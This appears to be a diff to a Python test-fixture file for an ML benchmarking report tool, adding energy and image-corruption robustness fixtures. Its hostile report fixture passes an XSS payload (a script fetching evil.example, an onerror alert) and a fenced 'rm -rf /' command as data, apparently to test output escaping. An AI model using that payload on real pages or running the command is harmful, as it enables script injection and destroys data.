@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import random
+from dataclasses import replace
 
 from PIL import Image
 
@@ -12,17 +13,29 @@ from toolkit.report.model import (
     MEASURED_HERE,
     CalibrationUsed,
     ConditionsOf,
+    CorruptionCurve,
+    CurvePoint,
     Flip,
     FlipSet,
     LiveRun,
     Percentiles,
     ReportInput,
     ReportRow,
+    RobustnessOf,
     SourceFile,
 )
+from toolkit.robustness import CORRUPTIONS
 from toolkit.statistics import percentile
 
-__all__ = ["ATTACK", "built_only", "hostile_report", "measured", "ordinary_report"]
+__all__ = [
+    "ATTACK",
+    "built_only",
+    "corrupted_pictures",
+    "hostile_report",
+    "measured",
+    "ordinary_report",
+    "with_energy",
+]
 
 ATTACK = "<script>fetch('https://evil.example/')</script>\"'><img src=x onerror=alert(1)>|`&amp;"
 
@@ -70,6 +83,10 @@ def measured(
     )
 
 
+def with_energy(row: ReportRow, *, mj: float) -> ReportRow:
+    return replace(row, mj=mj, mj_interval=(0.9 * mj, 1.1 * mj), energy_of="module (VDD_IN)")
+
+
 def built_only(engine: str, *, precision: str = "int8", target: str = "rtx-4090") -> ReportRow:
     return ReportRow(
         target=target, precision=precision, engine=engine, bytes=8_000_000, status=BUILT_ONLY
@@ -82,6 +99,28 @@ def thumbnail() -> bytes:
     return picture.getvalue()
 
 
+def corrupted_pictures(
+    *,
+    names: tuple[str, str] = ("net.fp32.cpu.onnx", "net.int8.cpu.onnx"),
+    corruptions: tuple[str, ...] = tuple(CORRUPTIONS),
+    precisions: tuple[str, str] = ("fp32", "int8"),
+) -> RobustnessOf:
+    points = tuple(
+        CurvePoint(
+            severity,
+            (0.9 - 0.1 * severity, 0.89 - 0.12 * severity),
+            ((0.85 - 0.1 * severity, 0.95 - 0.1 * severity), (0.2, None)),
+            1.0 + 2.0 * severity,
+            (0.5, None),
+        )
+        for severity in range(6)
+    )
+    curves = tuple(CorruptionCurve(name, points, 6.0, (4.0, 8.0)) for name in corruptions)
+    return RobustnessOf(
+        names, precisions, 653, (224, 224), curves, 6.0, (4.0, 8.0), 5.0, (3.0, 7.0)
+    )
+
+
 def ordinary_report() -> ReportInput:
     flips = tuple(
         Flip(f"val/n{k}/{k}.JPEG", "tench", "tench", "eel", k < 2, k == 2, thumbnail())
@@ -91,7 +130,7 @@ def ordinary_report() -> ReportInput:
     return ReportInput(
         title="MobileNetV2 on two machines",
         rows=(
-            measured("net.fp32.cpu.onnx"),
+            with_energy(measured("net.fp32.cpu.onnx"), mj=41.25),
             measured(
                 "net.int8.cpu.onnx",
                 precision="int8",
@@ -121,6 +160,7 @@ def ordinary_report() -> ReportInput:
         conditions=(ConditionsOf(("all engines",), (("isa", "avx2"), ("threads", "2"))),),
         calibrations=(CalibrationUsed("net.calibration.json", "auto", 512, 0, "9f86d081884c7d65"),),
         flips=(FlipSet("fp32", "int8", 653, 12, 5, 3, flips, 0.7, 0.98),),
+        robustness=(corrupted_pictures(),),
         commands=("edgekit measure net.fp32.cpu.onnx net.int8.cpu.onnx",),
         made_on="a machine",
         images="653 images in val",
@@ -145,6 +185,11 @@ def hostile_report() -> ReportInput:
         flips=(
             FlipSet(
                 ATTACK, ATTACK, 1, 1, 0, 0, (Flip(ATTACK, ATTACK, ATTACK, ATTACK, False, False),)
+            ),
+        ),
+        robustness=(
+            corrupted_pictures(
+                names=(ATTACK, ATTACK), corruptions=(ATTACK,), precisions=(ATTACK, ATTACK)
             ),
         ),
         commands=(ATTACK, "```\nrm -rf /"),
